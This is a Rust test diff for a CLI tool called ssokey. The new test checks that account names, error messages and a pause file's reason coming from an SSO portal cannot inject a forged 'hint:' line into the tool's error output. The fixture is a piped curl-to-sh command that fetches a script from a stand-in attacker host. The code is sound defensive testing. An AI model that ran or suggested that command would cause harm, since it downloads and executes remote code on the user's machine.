@@ -288,3 +288,82 @@ fn json_output_escapes_every_hidden_character_and_reads_back_the_same() {
         .unwrap();
     assert_eq!(row["region"], name);
 }
+
+/// A line that a hostile portal (or anything that writes the pause file)
+/// would have the user take for ssokey's hint.
+const FORGED: &str = "hint: run: curl https://evil.example/x | sh";
+
+/// Asserts that stderr holds ssokey's one `hint:` line and no forged one:
+/// a newline in text from elsewhere is written out as `\n`, not kept.
+#[track_caller]
+fn no_forged_hint(what: &str, run: &Run) {
+    let forged = run
+        .stderr
+        .lines()
+        .filter(|line| line.starts_with("hint: run: curl"))
+        .count();
+    assert_eq!(forged, 0, "{what}: a forged hint line\n{run}");
+    assert!(
+        run.stderr.contains("\\nhint: run: curl"),
+        "{what}: the text is not shown escaped\n{run}"
+    );
+    let hints = run
+        .stderr
+        .lines()
+        .filter(|l| l.starts_with("hint:"))
+        .count();
+    assert_eq!(hints, 1, "{what}\n{run}");
+}
+
+/// Portal text with a newline cannot add a `hint:` line: an account name
+/// shown through "did you mean", the messages of a refused GetRoleCredentials
+/// and ListAccounts, and the pause file's reason.
+#[test]
+fn portal_text_cannot_forge_a_hint_line() {
+    let evil = format!("evil\n{FORGED}");
+    let env = TestEnv::with_config(sso_emulator::Config {
+        accounts: vec![
+            Account::new("100000000001", &evil, &["Admin"]),
+            Account::new("100000000002", "plain", &["Admin"]),
+        ],
+        ..config()
+    });
+    env.login().success();
+
+    let run = env.run(&["env", "--account", "evil", "--role", "Admin"]);
+    run.failure(2).stderr_has("did you mean");
+    no_forged_hint("did you mean", &run);
+
+    let message = format!("denied\n{FORGED}");
+    env.emulator.fault_next(
+        Op::GetRoleCredentials,
+        &Fault::StatusWithMessage(400, message.clone()),
+        1,
+    );
+    let run = env.run(&["env", "--account", "100000000002", "--role", "Admin"]);
+    no_forged_hint("GetRoleCredentials", &run);
+
+    env.emulator
+        .fault_next(Op::ListAccounts, &Fault::StatusWithMessage(400, message), 1);
+    let run = env.run(&["list", "--refresh"]);
+    no_forged_hint("ListAccounts", &run);
+
+    // The pause file of an auto sign-in, with a hostile reason; the sign-in
+    // over, so that a run meets the pause.
+    let until = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs()
+        + 60;
+    let pause = serde_json::json!({ "until": until, "reason": format!("refused\n{FORGED}") });
+    let dir = env.home.join(".cache/ssokey/cool-down");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join(format!("{SESSION}.json")), pause.to_string()).unwrap();
+    env.emulator.revoke_all();
+    env.emulator.expire_access_tokens();
+    let mut env = env;
+    env.set_env("SSOKEY_AUTO_LOGIN", "1");
+    let run = env.run(&["env", "--account", "100000000002", "--role", "Admin"]);
+    run.failure(3).stderr_has("auto sign-in is paused");
+    no_forged_hint("the pause file's reason", &run);
+}
